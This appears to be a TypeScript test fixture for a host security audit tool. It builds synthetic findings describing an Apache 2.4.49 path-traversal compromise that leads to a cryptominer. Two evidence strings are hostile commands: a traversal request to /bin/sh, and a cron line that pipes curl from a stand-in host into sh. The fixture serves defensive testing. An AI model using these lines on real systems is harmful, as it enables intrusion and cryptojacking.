import type { ReportDocument } from "../../src/core/document.ts";
import type { Finding } from "../../src/core/finding.ts";
import type { HuntSection } from "../../src/core/sections/index.ts";

/** Hand-made findings that follow README "Finding conventions": the Apache 2.4.49 miner story. */
export function f(partial: Partial<Finding> & Pick<Finding, "id" | "check">): Finding {
  return {
    severity: "high",
    confidence: "likely",
    title: partial.check,
    detail: "",
    cves: [],
    evidence: [],
    remediation: "",
    ...partial,
  };
}

export const T0 = "2026-11-20T03:14:07.000Z";

export function minerStory(): Finding[] {
  return [
    f({
      id: "apache.cve:1",
      check: "apache.cve",
      severity: "critical",
      confidence: "confirmed",
      title: "Apache 2.4.49 path traversal",
      cves: ["CVE-2021-41773", "CVE-2021-42013"],
      data: { installation: "/usr/local/apache2", version: "2.4.49", owner: "root" },
    }),
    f({
      id: "logs.exploit:1",
      check: "logs.exploit",
      severity: "critical",
      cves: ["CVE-2021-41773"],
      title: "Path traversal RCE from 203.0.113.5",
      time: T0,
      timeSource: "log",
      evidence: [
        { path: "/usr/local/apache2/logs/access_log", line: 18842, value: "POST /cgi-bin/.%2e/.%2e/bin/sh" },
      ],
      data: {
        ip: "203.0.113.5",
        attack: "CVE-2021-41773 RCE",
        outcome: "succeeded",
        firstSeen: "2026-11-20T03:10:00.000Z",
        lastSeen: T0,
        requests: 12,
        successTimes: [T0],
        indicators: {
          urls: ["http://198.51.100.7/kdevtmpfsi"],
          ips: ["198.51.100.7"],
          files: ["/tmp/kdevtmpfsi"],
        },
      },
    }),
    f({
      id: "process.miner:1",
      check: "process.miner",
      severity: "critical",
      title: "Cryptominer running",
      time: "2026-11-20T03:14:09.000Z",
      timeSource: "proc",
      evidence: [{ pid: 4242, value: "/tmp/kdevtmpfsi" }],
      data: {
        pid: 4242,
        exe: "/tmp/kdevtmpfsi",
        argv: ["/tmp/kdevtmpfsi"],
        user: "daemon",
        startTime: "2026-11-20T03:14:09.000Z",
        cpuSeconds: 86400,
        remotes: ["198.51.100.9:3333"],
      },
    }),
    f({
      id: "network.pool:1",
      check: "network.pool",
      title: "Connection to a mining pool",
      data: { pid: 4242, remoteAddress: "198.51.100.9", remotePort: 3333, domain: "pool.example" },
    }),
    f({
      id: "persistence.cron:1",
      check: "persistence.cron",
      title: "Cron entry downloads and runs a file",
      time: "2026-11-20T03:14:10.000Z",
      timeSource: "mtime",
      evidence: [
        {
          path: "/var/spool/cron/crontabs/daemon",
          line: 1,
          value: "* * * * * curl -s http://198.51.100.7/kdevtmpfsi | sh",
        },
      ],
      data: { path: "/var/spool/cron/crontabs/daemon", line: 1, user: "daemon" },
    }),
    // Unrelated: a blocked scan from elsewhere, an open port, and an old root process with no link.
    f({
      id: "logs.exploit:2",
      check: "logs.exploit",
      severity: "medium",
      title: "Log4Shell probe",
      time: "2026-11-19T10:00:00.000Z",
      timeSource: "log",
      data: {
        ip: "192.0.2.44",
        attack: "log4shell",
        outcome: "blocked",
        indicators: { urls: [], ips: [], files: [] },
      },
    }),
    f({
      id: "exposure.port:1",
      check: "exposure.port",
      severity: "medium",
      title: "Redis open to the world",
    }),
    f({
      id: "process.hidden:1",
      check: "process.hidden",
      severity: "medium",
      title: "Process hidden from /proc listing",
      time: "2026-11-01T00:00:00.000Z",
      timeSource: "proc",
      data: { pid: 17, exe: "/usr/sbin/sshd", user: "root" },
    }),
  ];
}

export function docOf(findings: Finding[], extra: Partial<ReportDocument> = {}): ReportDocument {
  return {
    schemaVersion: 1,
    tool: { name: "mamori", version: "0.1.0" },
    command: "audit",
    host: {
      hostname: "web1",
      os: "Debian GNU/Linux 12",
      osId: "debian",
      osVersion: "12",
      root: "/",
      live: true,
    },
    scannedAt: "2026-11-21T00:00:00.000Z",
    lang: "en",
    findings,
    incidents: [],
    notChecked: [],
    warnings: [],
    sections: {},
    ...extra,
  };
}

/** A hunt section as `mamori hunt` writes it on a copied root, with the given busiest processes. */
export function huntSection(topCpu: NonNullable<HuntSection["topCpu"]>): HuntSection {
  return {
    processes: topCpu.length,
    topCpu,
    persistenceLines: 0,
    sshKeys: 0,
    fileScan: {
      roots: [],
      maxDepth: 0,
      maxEntries: 0,
      maxFileBytes: 0,
      maxTotalBytes: 0,
      bytesRead: 0,
      entriesSeen: 0,
      truncated: false,
      skippedLarge: [],
      filesExamined: 0,
    },
    hiddenPidProbe: "not-live",
    cpuSample: "not-live",
    iocLists: [],
    costModel: { wattsPerCore: 15, pricePerKwh: 31, currency: "JPY" },
    allowlist: 0,
  };
}
